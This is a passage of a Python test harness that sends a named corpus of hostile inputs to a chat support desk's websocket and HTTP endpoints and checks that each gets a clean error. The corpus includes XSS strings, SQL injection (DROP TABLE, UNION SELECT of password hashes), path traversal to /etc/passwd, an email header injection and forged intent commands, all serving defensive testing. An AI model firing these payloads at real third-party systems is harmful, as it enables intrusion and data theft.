"""Hostile input through the public door: a named corpus of cases and a runner.

Every case says what it sends (websocket frames to ``/chat/ws``, or an HTTP request to
``/chat/api/session``, ``/api/v1/*`` or ``/console/api/*``) and how the reply is checked. The
check is the same contract everywhere (docs/security.md):

- HTTP: never a 5xx; a 4xx carries ``{"detail": {"code", "message"}}`` with a non-empty message
  (a 429 also a ``Retry-After``); a 2xx has a non-empty body. Some cases also pin the status.
- websocket: never a dropped connection. Every message or button frame is answered by an
  ``ack`` followed by a non-empty bot (or system) line, or by an ``error`` frame with a code and
  a non-empty message; a bad hello gets an error frame, then a close with its code. After the
  case the socket must still answer a ``ping`` (unless it was meant to close).

Floods run last (a session flood spends this client's budget for new chats): one socket
sending faster than the limit, several sockets on one conversation, and one client opening
sessions; each must meet the limit's clear message (``rate_limited``; 429 + Retry-After).

Run against a live desk::

    harness/.venv/bin/python -m tierline_harness.hostile --url http://127.0.0.1:8000

It prints each failed case's name and problems, then ``hostile=H`` (H failed cases), and exits
1 when H > 0. ``DESK_API_TOKEN`` in the environment enables the authorised ``/api/v1`` cases;
``--console-user/--console-password`` (default: the demo associate) the logged-in console ones;
``INBOUND_MAIL_SECRET`` the signed raw mails on ``POST /mail/inbound``.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import hashlib
import hmac
import json
import os
import re
import struct
import sys
import time
import zlib
from collections.abc import Callable, Collection, Iterable, Iterator, Mapping, Sequence
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Literal, Protocol
from urllib.parse import quote

if TYPE_CHECKING:
    from starlette.testclient import TestClient, WebSocketTestSession

Frame = dict[str, Any]
# "mail": signed with the inbound mail webhook's secret (X-Tierline-Signature, docs/email.md).
Auth = Literal["none", "bot", "wrong-bot", "console", "console-no-csrf", "mail"]

ORDER = "112-4839201-5573910"  # a demo order (desk/tierline_desk/demo/orders.json)
KB = 1024
# A body over 1 MB: the public door's proxy refuses it with 413 (nginx's client_max_body_size,
# answered as JSON, distributed.py); the desk on its own validates it and says 422.
TOO_BIG = frozenset({413, 422})
# Paths the public door's proxy refuses before the desk sees them (nginx, answered as JSON):
# over its 8 KB request-line buffer (414), a NUL byte decoded from the path (400).
PROXY_REFUSES_PATH: dict[str, frozenset[int]] = {
    "huge": frozenset({414}),
    "null-byte": frozenset({400}),
}
BINARY = "binary:"  # a frame starting with this is sent as a binary websocket message
# A valid client_id in a raw frame; the runner prefixes it per socket so ids stay unique within
# a (pooled) conversation. Invalid ids (empty, too long, odd characters) are left as they are.
_CLIENT_ID = re.compile(r'"client_id": "([A-Za-z0-9_-]{1,40})"')


# ---------------------------------------------------------------- transports


@dataclass(frozen=True)
class HttpReply:
    status: int
    headers: Mapping[str, str]
    text: str

    def json(self) -> Any:
        try:
            return json.loads(self.text)
        except ValueError:
            return None


class SocketClosed(Exception):
    """The server closed the websocket (``code`` 1006: dropped without a close frame)."""

    def __init__(self, code: int, reason: str = "") -> None:
        super().__init__(f"closed {code} {reason}")
        self.code = code
        self.reason = reason


class Socket(Protocol):
    def send_text(self, data: str) -> None: ...

    def send_bytes(self, data: bytes) -> None: ...

    def receive(self, timeout: float) -> Frame:
        """The next JSON frame; SocketClosed when closed, TimeoutError when none comes."""
        ...


class Door(Protocol):
    """The public door, live (httpx + websockets) or in-process (a TestClient)."""

    def http(
        self, method: str, path: str, headers: Mapping[str, str], body: bytes | None
    ) -> HttpReply:
        """One request; cookies travel in a ``cookie`` header, never in a jar."""
        ...

    def websocket(self, path: str) -> AbstractContextManager[Socket]: ...


class LiveDoor:
    """A desk reached over the network: ``base_url`` like ``http://127.0.0.1:8000``."""

    def __init__(self, base_url: str, timeout: float = 30.0) -> None:
        import httpx

        self.base_url = base_url.rstrip("/")
        self.timeout = timeout
        self._http = httpx.Client(base_url=self.base_url, timeout=timeout)

    def http(
        self, method: str, path: str, headers: Mapping[str, str], body: bytes | None
    ) -> HttpReply:
        import httpx

        self._http.cookies.clear()
        try:
            resp = self._http.request(method, path, headers=dict(headers), content=body)
        except httpx.TransportError as exc:
            return HttpReply(0, {}, f"transport error: {exc!r}")
        return HttpReply(resp.status_code, _lower(resp.headers), resp.text)

    @contextlib.contextmanager
    def websocket(self, path: str) -> Iterator[Socket]:
        from websockets.sync.client import connect

        url = "ws" + self.base_url.removeprefix("http") + path
        with connect(url, max_size=4 * 1024 * 1024, open_timeout=self.timeout) as ws:
            yield _LiveSocket(ws)


class _LiveSocket:
    def __init__(self, ws: Any) -> None:
        self._ws = ws

    def send_text(self, data: str) -> None:
        from websockets.exceptions import ConnectionClosed

        try:
            self._ws.send(data)
        except ConnectionClosed as exc:
            raise SocketClosed(exc.rcvd.code if exc.rcvd else 1006) from exc

    def send_bytes(self, data: bytes) -> None:
        from websockets.exceptions import ConnectionClosed

        try:
            self._ws.send(data)
        except ConnectionClosed as exc:
            raise SocketClosed(exc.rcvd.code if exc.rcvd else 1006) from exc

    def receive(self, timeout: float) -> Frame:
        from websockets.exceptions import ConnectionClosed

        try:
            raw = self._ws.recv(timeout=timeout)
        except ConnectionClosed as exc:
            rcvd = exc.rcvd
            raise SocketClosed(rcvd.code if rcvd else 1006, rcvd.reason if rcvd else "") from exc
        frame = json.loads(raw)
        if not isinstance(frame, dict):
            raise ValueError(f"non-object frame {raw[:80]!r}")
        return frame


class TestClientDoor:
    """The desk app in-process, through starlette's TestClient (the desk's tests)."""

    __test__ = False  # not a pytest test class

    def __init__(self, client: TestClient) -> None:
        self.client = client

    def http(
        self, method: str, path: str, headers: Mapping[str, str], body: bytes | None
    ) -> HttpReply:
        self.client.cookies.clear()
        resp = self.client.request(method, path, headers=dict(headers), content=body)
        self.client.cookies.clear()
        return HttpReply(resp.status_code, _lower(resp.headers), resp.text)

    @contextlib.contextmanager
    def websocket(self, path: str) -> Iterator[Socket]:
        with self.client.websocket_connect(path) as ws:
            yield _TestSocket(ws)


class _TestSocket:
    def __init__(self, ws: WebSocketTestSession) -> None:
        self._ws = ws

    def send_text(self, data: str) -> None:
        self._ws.send_text(data)

    def send_bytes(self, data: bytes) -> None:
        self._ws.send_bytes(data)

    def receive(self, timeout: float) -> Frame:
        import anyio

        async def next_message() -> Any:
            with anyio.fail_after(timeout):
                # The session's own receive() has no timeout; its stream does the same.
                return await self._ws._send_rx.receive()

        message = self._ws.portal.call(next_message)
        if message["type"] == "websocket.close":
            raise SocketClosed(int(message.get("code", 1000)), str(message.get("reason") or ""))
        frame = json.loads(message["text"])
        if not isinstance(frame, dict):
            raise ValueError("non-object frame")
        return frame


# ---------------------------------------------------------------- cases


@dataclass(frozen=True)
class HttpCase:
    """One HTTP request; ``body`` is sent as raw bytes (JSON or deliberately not)."""

    name: str
    method: str
    path: str
    body: bytes | None = None
    content_type: str | None = "application/json"
    auth: Auth = "none"
    expect_status: frozenset[int] = frozenset()  # empty: any non-5xx with a message
    extra_headers: tuple[tuple[str, str], ...] = ()

    def sends(self) -> str:
        size = f", {len(self.body)} bytes" if self.body is not None else ""
        return f"HTTP {self.method} {self.path} ({self.auth}{size})"


@dataclass(frozen=True)
class WsCase:
    """Frames sent on ``/chat/ws`` after a proper hello (or instead of it: ``hello``)."""

    name: str
    frames: tuple[str, ...] = ()
    expect_errors: tuple[str, ...] = ()  # error codes that must appear, in this order
    expect_notice: bool = False  # a "notice" frame (e.g. the transcript request's answer)
    hello: str | None = None  # raw first frame instead of a proper hello
    expect_close: int | None = None  # the close code a bad hello must get
    fresh_session: bool = False  # a conversation of its own (floods)
    connections: int = 1  # the same frames on this many sockets of one conversation, in turn

    def sends(self) -> str:
        sizes = ", ".join(str(len(f)) for f in self.frames[:4])
        more = "..." if len(self.frames) > 4 else ""
        first = "bad hello" if self.hello is not None else "hello"
        return f"websocket /chat/ws: {first} + {len(self.frames)} frame(s) [{sizes}{more} chars]"

    def message_frames(self) -> int:
        """How many frames are chat messages (what the per-conversation limit counts)."""
        return sum(1 for f in self.frames if _frame_type(f) in ("message", "button"))


@dataclass(frozen=True)
class SessionFloodCase:
    """``count`` new-session requests from one client: a 429 with Retry-After must come."""

    name: str
    count: int

    def sends(self) -> str:
        return f"HTTP POST /chat/api/session x{self.count}"


@dataclass(frozen=True)
class UploadCase:
    """A file sent to ``/chat/api/attachments`` as the widget sends it (multipart, one part
    named ``file``) for a conversation of its own; the refusal's ``code`` is checked too.

    ``oversize``: instead of ``data``, a JPEG-looking body of this many bytes, made as it is
    sent (the corpus itself stays small)."""

    name: str
    filename: str
    data: bytes = b""
    expect_status: frozenset[int] = frozenset({422})
    expect_code: str | None = None
    oversize: int = 0
    auth: Literal["conversation", "none", "wrong-token"] = "conversation"

    def body_bytes(self) -> bytes:
        if self.oversize:
            return b"\xff\xd8\xff\xe0" + bytes(self.oversize - 4)
        return self.data

    def sends(self) -> str:
        size = self.oversize or len(self.data)
        return f"HTTP POST /chat/api/attachments ({self.auth}, {self.filename!r}, {size} bytes)"


Case = HttpCase | WsCase | SessionFloodCase | UploadCase


@dataclass(frozen=True)
class Limits:
    """The desk's flood limits (settings.py, "flood limits"); floods are sized above them."""

    connection_burst: int = 8
    conversation_burst: int = 16
    sessions_per_ip_burst: int = 30
    attachment_max_bytes: int = 10 * KB * KB


def _frame_type(raw: str) -> Any:
    try:
        frame = json.loads(raw)
    except (ValueError, RecursionError):
        return None
    return frame.get("type") if isinstance(frame, dict) else None


def _msg(text: str, client_id: str) -> str:
    return json.dumps({"type": "message", "client_id": client_id, "text": text})


def _j(value: Any) -> bytes:
    return json.dumps(value).encode()


# One row of a table of HTTP cases: name, method, path, body and the statuses it may get (empty:
# any non-5xx with a message). What the rows share (who asks, extra headers) is the table's.
Request = tuple[str, str, str, bytes | None, Collection[int]]


def _requests(
    rows: Iterable[Request], auth: Auth = "none", headers: tuple[tuple[str, str], ...] = ()
) -> list[HttpCase]:
    """The table's rows as JSON requests, each sent as ``auth`` with ``headers``."""
    return [
        HttpCase(
            name,
            method,
            path,
            body,
            auth=auth,
            expect_status=frozenset(expect),
            extra_headers=headers,
        )
        for name, method, path, body, expect in rows
    ]


# Text payloads: each goes to the bot as a chat message (and, where it fits, as a field).
CONTROL = "".join(chr(c) for c in range(0, 32) if chr(c) not in "\n\t")
TEXTS: dict[str, str] = {
    "plain": "where is my order 112-4839201-5573910",
    "control-chars-around-text": f"{CONTROL}hello{CONTROL}",
    "nul-bytes": "hi\x00there\x00",
    "del-and-c1-controls": "hi\x7f\x80\x9f there",
    "bell-and-escape-sequences": "\x1b[31mred\x1b[0m \x07 where is my order",
    "crlf-injection": "hi\r\nSet-Cookie: x=1\r\n\r\nthere",
    "only-newlines-and-text": "\n\n\nhello\n\n",
    "emoji": "📦📦 where is my package?? 😡😡😡",
    "emoji-zwj-sequences": "👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍💻 refund please",
    "emoji-only": "🙂",
    "skin-tone-modifiers-alone": "🏻🏼🏽🏾🏿",
    "rtl-arabic": "أين طلبي؟ رقم الطلب 112-4839201-5573910",
    "rtl-hebrew": "איפה ההזמנה שלי",
    "rtl-override-chars": "\u202eredro ym si erehw\u202c \u2066x\u2069",
    "bidi-isolates-around-order": "\u2067112-4839201-5573910\u2069",
    "zero-width-chars": "wh\u200bere is\u200c my\u200d order\ufeff",
    "combining-marks-zalgo": "h̷̡̛̺͓̔e̵̢̛͔̓l̴͍͚̈́l̶̘̈́o̸̧͛",
    "cjk": "我的订单在哪里？",
    "fullwidth-text": "ｗｈｅｒｅ ｉｓ ｍｙ ｏｒｄｅｒ",
    "astral-plane-math": "𝕨𝕙𝕖𝕣𝕖 𝕚𝕤 𝕞𝕪 𝕠𝕣𝕕𝕖𝕣",
    "html-script": "<script>window.__pwned=1;alert(1)</script>",
    "html-img-onerror": '<img src=x onerror="window.__pwned=1">',
    "html-svg-onload": "<svg onload=alert(1)><circle r=1></svg>",
    "html-iframe-js-url": '<iframe src="javascript:alert(1)"></iframe>',
    "html-a-href-js": '<a href="javascript:alert(1)">click</a>',
    "html-entity-escapes": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3C;b&#x3E;",
    "html-style-expression": '<div style="background:url(javascript:alert(1))">x</div>',
    "html-unclosed-tags": "<b><i><u>bold <table><tr><td>",
    "markdown-link-js": "[click](javascript:alert(1)) **bold** `code`",
    "template-injection": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "sql-or-1-1": "' OR '1'='1' --",
    "sql-drop-table": "112-4839201-5573910'; DROP TABLE orders; --",
    "sql-union-select": "1 UNION SELECT username, password_hash FROM agents --",
    "sql-comment-sleep": "'; SELECT pg_sleep(10); --",
    "nosql-operators": '{"$gt": ""}',
    "path-traversal": "../../../../etc/passwd",
    "format-string": "%s%s%s%n %x %p {0} {!r}",
    "log-injection-newline": "ok\n2026-01-01 ERROR admin logged in",
    "intent-talk": "/talk_to_representative",
    "intent-with-entities": '/track_order{"order_id": "112-4839201-5573910"}',
    "intent-with-forged-customer": '/greet{"customer_id": "C-1001"}',
    "intent-restart": "/restart",
    "intent-session-start": "/session_start",
    "intent-leading-spaces": '   /affirm{"x": 1}',
    "intent-double-slash": "//track_order",
    "intent-external-handback": '/EXTERNAL_handback{"handback_outcome": "refund"}',
    "only-slashes": "///",
    "single-slash": "/",
    "order-arabic-indic-digits": "my order is ١١٢-٤٨٣٩٢٠١-٥٥٧٣٩١٠",
    "order-persian-digits": "order ۱۱۲-۴۸۳۹۲۰۱-۵۵۷۳۹۱۰",
    "order-devanagari-digits": "order १११-४८३९२०१-५५७३९१०",
    "order-fullwidth-digits": "order １１２－４８３９２０１－５５７３９１０",
    "order-mathematical-digits": "order 𝟏𝟏𝟐-𝟒𝟖𝟑𝟗𝟐𝟎𝟏-𝟓𝟓𝟕𝟑𝟗𝟏𝟎",
    "order-superscript-digits": "order ¹¹²-⁴⁸³⁹²⁰¹-⁵⁵⁷³⁹¹⁰",
    "order-with-sql": "order 112-4839201-5573910' OR 1=1 --",
    "order-too-long": "order 112-4839201-55739101234567890",
    "order-letters": "order ABC-DEFGHIJ-KLMNOPQ",
    "email-like-html": '"><script>alert(1)</script>@example.com',
    "very-long-word": "a" * 1999,
    "at-the-limit": "x" * 2000,
    "json-in-text": '{"type": "hello", "conversation_id": "web-000"}',
    "lone-surrogate-escaped": "\\ud800 escaped lone surrogate",
    "unicode-noncharacters": "\ufffe\uffff\U0010ffff text",
    "private-use-area": "\ue000\uf8ff text",
    "number-huge": "9" * 400,
    "negative-refund": "please refund -100000 dollars",
    "whitespace-mix": "\u00a0\u2003\u3000 hello \u2028 \u2029",
    # Typed text that must never force an intent (issue 14, finding 2): the desk strips every
    # leading slash, look-alike and invisible character; the REST channel refuses unsigned ones.
    "intent-slash-space-slash": "/ /restart",
    "intent-slash-space-slash-handback": (
        '/ /EXTERNAL_handback{"handback_outcome": "refund approved"}'
    ),
    "intent-slashes-newline-slash": "//\n/affirm",
    "intent-tabs-newlines-slashes": "/\t/\n /\r\n/restart",
    "intent-zero-width-before-slash": "\u200b/restart",
    "intent-zero-width-between-slashes": "/\u200b/\u200c/\u2060/\ufeffaffirm",
    "intent-fullwidth-solidus": "\uff0frestart",
    "intent-fullwidth-mixed": "\uff0f /\uff0fEXTERNAL_handback",
    "intent-fraction-slash": "\u2044affirm",
    "intent-division-slash": "\u2215\u2215affirm",
    "intent-big-solidus": "\u29f8talk_to_representative",
    "intent-nbsp-ideographic-space": "\u00a0/\u3000/\u2028/affirm",
    "intent-combining-mark-first": "\u0301/affirm",
    "intent-rtl-override-first": "\u202e/restart",
}

# Messages the desk refuses with a clear error frame code, never relays.
REFUSED_TEXTS: dict[str, tuple[str, str]] = {
    "empty-string": ("", "empty_message"),
    "only-spaces": ("      ", "empty_message"),
    "only-newlines": ("\n\n\n", "empty_message"),
    "only-control-chars": (CONTROL, "empty_message"),
    "only-zero-width": ("\u200b\u200c\u200d", "empty_message"),
    "just-over-the-limit": ("y" * 2001, "too_long"),
    "100-kb": ("z" * (100 * KB), "too_long"),
    "1-mb": ("m" * (1024 * KB), "too_long"),
    "1-mb-of-emoji": ("😀" * (256 * KB), "too_long"),
    "100-kb-html": ("<script>alert(1)</script>" * 4096, "too_long"),
}

# Frames that are not messages, or malformed ones: each must get an error frame.
BAD_FRAMES: dict[str, tuple[str, str]] = {
    "not-json": ("this is not json", "bad_frame"),
    "truncated-json": ('{"type": "message", "text": "hi"', "bad_frame"),
    "json-array": ('["message", "hi"]', "bad_frame"),
    "json-string": ('"hello"', "bad_frame"),
    "json-number": ("42", "bad_frame"),
    "json-null": ("null", "bad_frame"),
    "json-true": ("true", "bad_frame"),
    "empty-frame": ("", "bad_frame"),
    "whitespace-frame": ("   ", "bad_frame"),
    "nan-literal": ('{"type": "message", "client_id": "c1", "text": NaN}', "bad_frame"),
    "unknown-type": ('{"type": "drop_tables"}', "bad_frame"),
    "type-missing": ('{"text": "hi", "client_id": "c1"}', "bad_frame"),
    "type-number": ('{"type": 7}', "bad_frame"),
    "type-object": ('{"type": {"$ne": null}}', "bad_frame"),
    "type-huge-string": (json.dumps({"type": "x" * 100_000}), "bad_frame"),
    "message-without-client-id": ('{"type": "message", "text": "hi"}', "bad_frame"),
    "message-client-id-number": ('{"type": "message", "client_id": 5, "text": "hi"}', "bad_frame"),
    "message-client-id-sql": (
        json.dumps({"type": "message", "client_id": "1' OR '1'='1", "text": "hi"}),
        "bad_frame",
    ),
    "message-client-id-too-long": (
        json.dumps({"type": "message", "client_id": "c" * 65, "text": "hi"}),
        "bad_frame",
    ),
    "message-client-id-emoji": (
        json.dumps({"type": "message", "client_id": "😀", "text": "hi"}),
        "bad_frame",
    ),
    "message-client-id-empty": ('{"type": "message", "client_id": "", "text": "hi"}', "bad_frame"),
    "message-without-text": ('{"type": "message", "client_id": "c1"}', "bad_frame"),
    "message-text-null": ('{"type": "message", "client_id": "c1", "text": null}', "bad_frame"),
    "message-text-number": ('{"type": "message", "client_id": "c1", "text": 12}', "bad_frame"),
    "message-text-list": ('{"type": "message", "client_id": "c1", "text": ["a"]}', "bad_frame"),
    "message-text-object": (
        '{"type": "message", "client_id": "c1", "text": {"$gt": ""}}',
        "bad_frame",
    ),
    "button-without-payload": ('{"type": "button", "client_id": "b1", "title": "x"}', "bad_frame"),
    "button-payload-number": (
        '{"type": "button", "client_id": "b1", "payload": 1, "title": "x"}',
        "bad_frame",
    ),
    "button-forged-intent": (
        json.dumps(
            {"type": "button", "client_id": "b1", "payload": '/affirm{"x":1}', "title": "Yes"}
        ),
        "unknown_button",
    ),
    "button-forged-handback": (
        json.dumps(
            {
                "type": "button",
                "client_id": "b1",
                "payload": "/EXTERNAL_handback",
                "title": "<script>alert(1)</script>",
            }
        ),
        "unknown_button",
    ),
    "button-payload-1-mb": (
        json.dumps(
            {"type": "button", "client_id": "b1", "payload": "/" + "a" * KB * KB, "title": "t"}
        ),
        "unknown_button",
    ),
    "button-payload-sql": (
        json.dumps({"type": "button", "client_id": "b1", "payload": "' OR 1=1 --", "title": "t"}),
        "unknown_button",
    ),
    "hello-again-mid-session": (
        '{"type": "hello", "conversation_id": "web-000000000000000000000000", "token": "x"}',
        "bad_frame",
    ),
    "message-lone-surrogate-only": (
        '{"type": "message", "client_id": "s1", "text": "\\ud800 \\udfff \\ud800"}',
        "empty_message",
    ),
    "binary-frame": (BINARY + '{"type": "message", "client_id": "b9", "text": "hi"}', "bad_frame"),
    "deeply-nested-json": (
        '{"type": "message", "x": ' + "[" * 5000 + "]" * 5000 + "}",
        "bad_frame",
    ),
}

BAD_HELLOS: dict[str, tuple[str, int]] = {
    "hello-not-json": ("hello?", 4400),
    "hello-wrong-type": ('{"type": "message", "text": "hi"}', 4400),
    "hello-json-array": ('["hello"]', 4400),
    "hello-empty-frame": ("", 4400),
    "hello-binary-frame": (BINARY + '{"type": "hello"}', 4400),
    "hello-deeply-nested": ("[" * 5000 + "]" * 5000, 4400),
    "hello-unknown-conversation": (
        '{"type": "hello", "conversation_id": "web-000000000000000000000000", "token": "t"}',
        4401,
    ),
    "hello-sql-conversation-id": (
        json.dumps({"type": "hello", "conversation_id": "' OR 1=1 --", "token": "x"}),
        4401,
    ),
    "hello-missing-token": (
        '{"type": "hello", "conversation_id": "web-000000000000000000000000"}',
        4401,
    ),
    "hello-token-list": ('{"type": "hello", "conversation_id": ["a"], "token": ["b"]}', 4401),
    "hello-token-1-mb": (
        json.dumps({"type": "hello", "conversation_id": "web-" + "0" * 24, "token": "t" * KB * KB}),
        4401,
    ),
    "hello-negative-last-seq": (
        json.dumps({"type": "hello", "conversation_id": "web-x", "token": "y", "last_seq": -5}),
        4401,
    ),
    "hello-emoji-ids": ('{"type": "hello", "conversation_id": "😀", "token": "😀"}', 4401),
}


# Survey answers: (score, comment); the refusal each must get (bad input first, then "nothing
# to rate here").
CSAT_FRAMES: dict[str, tuple[Any, Any]] = {
    "html-comment": (3, "<img src=x onerror=alert(1)>"),
    "control-chars-comment": (2, f"{CONTROL}bad{CONTROL}"),
    "rtl-override-comment": (4, "\u202eredro ym\u202c"),
    "comment-1-mb": (5, "c" * KB * KB),
    "score-string": ("5", None),
    "score-huge": (10**30, None),
    "comment-object": (3, {"x": 1}),
}
CSAT_REFUSAL = {
    "comment-1-mb": "csat_comment_too_long",
    "score-string": "csat_bad_score",
    "score-huge": "csat_bad_score",
    "comment-object": "csat_bad_comment",
}
CSAT_REFUSAL = {name: CSAT_REFUSAL.get(name, "csat_not_offered") for name in CSAT_FRAMES}


def websocket_cases(limits: Limits) -> list[WsCase]:
    cases: list[WsCase] = []
    for name, text in TEXTS.items():
        cases.append(WsCase(f"ws-message-{name}", (_msg(text, "m1"),)))
    for name, (text, code) in REFUSED_TEXTS.items():
        cases.append(WsCase(f"ws-refused-{name}", (_msg(text, "r1"),), expect_errors=(code,)))
    for name, (frame, code) in BAD_FRAMES.items():
        cases.append(WsCase(f"ws-frame-{name}", (frame,), expect_errors=(code,)))
    for name, (frame, close) in BAD_HELLOS.items():
        cases.append(WsCase(f"ws-{name}", hello=frame, expect_close=close))
    cases += [
        WsCase(
            "ws-typing-then-message",
            ('{"type": "typing"}', '{"type": "typing", "x": "<b>"}', _msg("hello", "t1")),
        ),
        WsCase("ws-ping-with-junk", ('{"type": "ping", "junk": "' + "x" * 10_000 + '"}',)),
        WsCase(
            "ws-retry-same-client-id",
            (_msg("same message twice", "dup1"), _msg("same message twice", "dup1")),
        ),
        WsCase(
            "ws-transcript-to-html-address",
            ('{"type": "email_transcript", "email": "<script>alert(1)</script>"}',),
            expect_notice=True,
        ),
        WsCase(
            "ws-transcript-email-number",
            ('{"type": "email_transcript", "email": 12345}',),
            expect_notice=True,
        ),
        WsCase(
            "ws-transcript-header-injection",
            (json.dumps({"type": "email_transcript", "email": "a@b.co\r\nBcc: x@evil.test"}),),
            expect_notice=True,
        ),
        WsCase(
            "ws-message-lone-surrogate-in-text",
            ('{"type": "message", "client_id": "s2", "text": "hi \\ud800 there"}',),
        ),
        WsCase(
            "ws-transcript-lone-surrogate-address",
            ('{"type": "email_transcript", "email": "\\ud800@example.com"}',),
            expect_notice=True,
        ),
        WsCase(
            "ws-transcript-1-mb-address",
            (json.dumps({"type": "email_transcript", "email": "a" * KB * KB + "@x.io"}),),
            expect_notice=True,
        ),
        WsCase(
            "ws-mixed-good-and-bad-frames",
            (_msg("first", "g1"), "garbage", _msg("", "g2"), _msg("second", "g3")),
            expect_errors=("bad_frame", "empty_message"),
        ),
        WsCase(
            "ws-binary-looking-text",
            (_msg(bytes(range(32, 256)).decode("latin-1"), "bin1"),),
        ),
    ]
    # The satisfaction survey's answer frame (docs/web-chat.md): nothing to rate in a fresh
    # chat, so each is refused with a clear code whatever it carries.
    for name, (score, comment) in CSAT_FRAMES.items():
        frame = json.dumps(
            {"type": "csat", "subject": "ticket:T-1", "score": score, "comment": comment}
        )
        cases.append(WsCase(f"ws-csat-{name}", (frame,), expect_errors=(CSAT_REFUSAL[name],)))
    # Floods (run last): one socket over its burst; several sockets over the conversation's.
    over = limits.connection_burst + 6
    cases.append(
        WsCase(
            "flood-one-socket",
            tuple(_msg(f"flood {n}", f"f{n}") for n in range(over)),
            expect_errors=("rate_limited",),
            fresh_session=True,
        )
    )
    per_socket = limits.connection_burst
    sockets = limits.conversation_burst // per_socket + 2
    cases.append(
        WsCase(
            "flood-one-conversation-many-sockets",
            tuple(_msg(f"tab flood {n}", "tab-{socket}-" + str(n)) for n in range(per_socket)),
            expect_errors=("rate_limited",),
            fresh_session=True,
            connections=sockets,
        )
    )
    return cases


def session_cases() -> list[HttpCase]:
    path = "/chat/api/session"
    bad = frozenset({422})
    ok = frozenset({200})
    nested = b'{"a": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    cases = _requests(
        [
            ("session-new-empty-object", "POST", path, b"{}", ok),
            ("session-malformed-json", "POST", path, b'{"conversation_id": ', bad),
            ("session-not-json", "POST", path, b"hello there", bad),
            ("session-empty-body", "POST", path, b"", bad),
            ("session-json-array", "POST", path, b"[]", bad),
            ("session-json-null", "POST", path, b"null", bad),
            ("session-json-string", "POST", path, b'"x"', bad),
            ("session-id-number", "POST", path, _j({"conversation_id": 5}), bad),
            ("session-token-list", "POST", path, _j({"token": ["a"]}), bad),
            ("session-identity-object", "POST", path, _j({"identity": {}}), bad),
            (
                "session-id-1-mb",
                "POST",
                path,
                _j({"conversation_id": "w" * KB * KB, "token": "t"}),
                TOO_BIG,
            ),
            ("session-body-1-mb-junk", "POST", path, b"{" + b"x" * KB * KB, TOO_BIG),
            ("session-body-100-kb-extra-field", "POST", path, _j({"extra": "e" * 100 * KB}), ok),
            (
                "session-sql-conversation-id",
                "POST",
                path,
                _j({"conversation_id": "web-' OR 1=1 --", "token": "' OR '1'='1"}),
                ok,
            ),
            (
                "session-forged-identity-token",
                "POST",
                path,
                _j({"identity": "C-1001.9999999999.deadbeef"}),
                {401},
            ),
            (
                "session-identity-html",
                "POST",
                path,
                _j({"identity": "<script>alert(1)</script>"}),
                {401},
            ),
            ("session-identity-control-chars", "POST", path, _j({"identity": CONTROL}), {401}),
            ("session-deeply-nested-json", "POST", path, nested, ()),
            ("session-get-not-allowed", "GET", path, None, {405}),
            ("session-put-not-allowed", "PUT", path, b"{}", {405}),
        ]
    )
    cases += [
        HttpCase("session-form-encoded", "POST", path, b"a=1", "application/x-www-form-urlencoded"),
        HttpCase("session-no-content-type", "POST", path, b"{}", None),
        HttpCase("session-text-plain", "POST", path, b"{}", "text/plain"),
    ]
    return cases


def bot_api_cases() -> list[HttpCase]:
    """``/api/v1``: refused without the bearer token; with it, hostile fields get a 4xx."""
    unauth = frozenset({401})
    cases = [
        HttpCase(
            "api-no-token-orders-lookup",
            "POST",
            "/api/v1/orders/lookup",
            _j({}),
            auth="none",
            expect_status=unauth,
        ),
        HttpCase(
            "api-wrong-token-outbox",
            "GET",
            "/api/v1/outbox",
            None,
            auth="wrong-bot",
            expect_status=unauth,
        ),
        HttpCase("api-no-token-handoffs", "GET", "/api/v1/handoffs", None, expect_status=unauth),
        HttpCase(
            "api-basic-auth-instead-of-bearer",
            "GET",
            "/api/v1/cases",
            None,
            extra_headers=(("Authorization", "Basic YWRtaW46YWRtaW4="),),
            expect_status=unauth,
        ),
        HttpCase(
            "api-token-sql",
            "GET",
            "/api/v1/cases",
            None,
            extra_headers=(("Authorization", "Bearer ' OR '1'='1"),),
            expect_status=unauth,
        ),
    ]
    hostile_numbers = {
        "sql-or": f"{ORDER}' OR '1'='1",
        "sql-drop": "112-4839201-5573910; DROP TABLE orders",
        "sql-union": "' UNION SELECT * FROM customers --",
        "arabic-digits": "١١٢-٤٨٣٩٢٠١-٥٥٧٣٩١٠",
        "fullwidth-digits": "１１２-４８３９２０１-５５７３９１０",
        "devanagari-digits": "११२-४८३९२०१-५५७३९१०",
        "trailing-newline": ORDER + "\n",
        "leading-space": " " + ORDER,
        "html": "<script>alert(1)</script>",
        "empty": "",
        "huge": "1" * 10_000,
        "null-byte": "112-4839201-557391\x00",
        "wildcard": "%",
        "unicode-dashes": "112\u20134839201\u20145573910",
    }
    proof = {"email": "maya.chen@example.com"}
    # Surrounding whitespace is trimmed, so those two find Maya's order (with her proof).
    found_ok = {"trailing-newline", "leading-space"}
    for name, number in hostile_numbers.items():
        expect = frozenset({404, 422} | ({200} if name in found_ok else set()))
        refused = frozenset({422}) if "digits" in name else expect
        cancel_path = f"/api/v1/orders/{quote(number, safe='')}/cancel"
        cases += _requests(
            [
                (
                    f"api-lookup-order-{name}",
                    "POST",
                    "/api/v1/orders/lookup",
                    _j({"order_number": number, **proof}),
                    refused,
                ),
                (
                    f"api-return-order-{name}",
                    "POST",
                    "/api/v1/returns",
                    _j({"order_number": number, "sku": "' OR 1=1", "reason": "<b>x</b>", **proof}),
                    refused,
                ),
                (
                    f"api-cancel-path-{name}",
                    "POST",
                    cancel_path,
                    _j(proof),
                    frozenset({404, 405, 422}) | PROXY_REFUSES_PATH.get(name, set()),
                ),
            ],
            "bot",
        )
    lookup = "/api/v1/orders/lookup"
    cases += _requests(
        [
            ("api-lookup-malformed-json", "POST", lookup, b"{", {422}),
            ("api-lookup-missing-fields", "POST", lookup, b"{}", {422}),
            (
                "api-lookup-email-1-mb",
                "POST",
                lookup,
                _j({"order_number": ORDER, "email": "a" * KB * KB}),
                TOO_BIG,
            ),
            (
                "api-lookup-lone-surrogate",
                "POST",
                lookup,
                b'{"order_number": "112-4839201-5573910", "email": "\\ud800@x.io"}',
                {403, 404, 422},
            ),
            (
                "api-lookup-proof-sql",
                "POST",
                lookup,
                _j({"order_number": ORDER, "email": "' OR 1=1 --"}),
                {403, 404, 422},
            ),
            ("api-promo-code-sql", "GET", "/api/v1/promo-codes/" + quote("' OR 1=1 --"), None, ()),
